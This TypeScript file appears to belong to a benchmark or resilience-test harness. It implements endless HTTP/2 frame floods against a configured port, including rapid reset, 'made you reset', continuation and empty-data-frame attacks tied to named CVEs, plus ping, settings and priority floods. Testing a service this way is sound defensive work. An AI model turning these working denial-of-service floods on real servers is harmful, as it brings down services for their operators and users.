import { setTimeout as pause } from "node:timers/promises";
import { callHeaders } from "../../bench/header-block.ts";
import { frame, frameFlag, frameType } from "../../bench/http2-frame.ts";
import type { Load } from "../../bench/load.ts";
import { FloodConnection } from "./connection.ts";

export type FrameFloodName = keyof typeof frameFloods;

export interface FrameFloodOptions {
  readonly attack: "frames";
  readonly port: number;
  /** Each on a connection of its own. */
  readonly floods: readonly FrameFloodName[];
  /** Of each connection. */
  readonly framesPerSecond: number;
}

export interface FrameFloodResult {
  readonly frames: number;
  /** Connections that the service ended; each was followed by a new one. */
  readonly thrownOut: number;
}

/** How often frames go out, in ms. */
const stepMs = 5;

/** Who was thrown out is back after this. */
const reconnectMs = 500;

/** Floods of frames, each on a connection of its own, and never an end. */
export class FrameFlood implements Load<FrameFloodResult> {
  readonly #options: FrameFloodOptions;
  readonly #over = new AbortController();
  #frames = 0;
  #thrownOut = 0;

  constructor(options: FrameFloodOptions) {
    this.#options = options;
  }

  begin(): void {
    for (const name of this.#options.floods) void this.#attack(name);
  }

  async end(): Promise<FrameFloodResult> {
    this.#over.abort();
    return { frames: this.#frames, thrownOut: this.#thrownOut };
  }

  async #attack(name: FrameFloodName): Promise<void> {
    const { port, framesPerSecond } = this.#options;
    const { signal } = this.#over;
    while (!signal.aborted) {
      const connection = await FloodConnection.open({ port });
      this.#frames += await pourFrames({ connection, name, framesPerSecond, signal });
      if (connection.isClosed) this.#thrownOut += 1;
      connection.close();
      await pause(reconnectMs);
    }
  }
}

interface Pouring {
  readonly connection: FloodConnection;
  readonly name: FrameFloodName;
  readonly framesPerSecond: number;
  readonly signal: AbortSignal;
}

/** Resolves with the number of frames that were sent when the connection has ended, or by the signal. */
export async function pourFrames(pouring: Pouring): Promise<number> {
  const { connection, name, framesPerSecond, signal } = pouring;
  const flood: Flood = frameFloods[name];
  connection.send(flood.first);
  const began = performance.now();
  let sent = 0;
  while (!signal.aborted && !connection.isClosed) {
    const due = ((performance.now() - began) * framesPerSecond) / 1_000;
    const frames: Buffer[] = [];
    for (; sent < due; sent++) frames.push(flood.next(sent));
    connection.send(Buffer.concat(frames));
    await connection.drained();
    await pause(stepMs);
  }
  return sent;
}

interface Flood {
  readonly first: Buffer;
  /** The nth frame, or the few that belong together. */
  readonly next: (n: number) => Buffer;
}

const nothing = Buffer.alloc(0);
const openCall = callHeaders("StreamScores");
const { data, headers, ping, resetStream, settings, windowUpdate } = frameType;
const [priority, continuation] = [2, 9];

/** Opens the nth stream of a connection. */
function opening(n: number): Buffer {
  const block = n === 0 ? openCall.first : openCall.again;
  return frame({ type: headers, flags: frameFlag.endHeaders, streamId: 1 + 2 * n }, block);
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

/** Each of the floods of frames that HTTP/2 servers were brought down by. */
export const frameFloods = {
  /** CVE-2023-44487: streams that are opened and reset at once. */
  "rapid reset": {
    first: nothing,
    next: (n) => {
      const streamId = 1 + 2 * n;
      return Buffer.concat([opening(n), frame({ type: resetStream, streamId }, uint32(8))]);
    },
  },
  /** CVE-2025-8671: the service is made to reset each stream itself. */
  "made you reset": {
    first: nothing,
    next: (n) => {
      const streamId = 1 + 2 * n;
      return Buffer.concat([opening(n), frame({ type: windowUpdate, streamId }, uint32(0))]);
    },
  },
  "streams beyond the most at a time": { first: nothing, next: opening },
  "ping flood": { first: nothing, next: () => frame({ type: ping }, Buffer.alloc(8)) },
  "settings flood": { first: nothing, next: () => frame({ type: settings }, nothing) },
  "window updates": {
    first: nothing,
    next: () => frame({ type: windowUpdate }, uint32(1)),
  },
  "priority flood": {
    first: nothing,
    next: (n) => frame({ type: priority, streamId: 1 + 2 * n }, Buffer.of(0, 0, 0, 0, 1)),
  },
  "frames of no known type": {
    first: nothing,
    next: () => frame({ type: 0x50 }, Buffer.alloc(8)),
  },
  /** CVE-2024-27316: headers that never end. */
  "continuation flood": {
    first: frame({ type: headers, streamId: 1 }, openCall.first),
    next: (n) => {
      const name = Buffer.from(`x-${n}`);
      const field = Buffer.concat([Buffer.of(0x10, name.length), name, Buffer.of(1, 0x61)]);
      return frame({ type: continuation, streamId: 1 }, field);
    },
  },
  /** CVE-2019-9518. */
  "empty data frames": {
    first: frame(
      { type: headers, flags: frameFlag.endHeaders, streamId: 1 },
      callHeaders("UpdateScore").first,
    ),
    next: () => frame({ type: data, streamId: 1 }, nothing),
  },
} satisfies Record<string, Flood>;
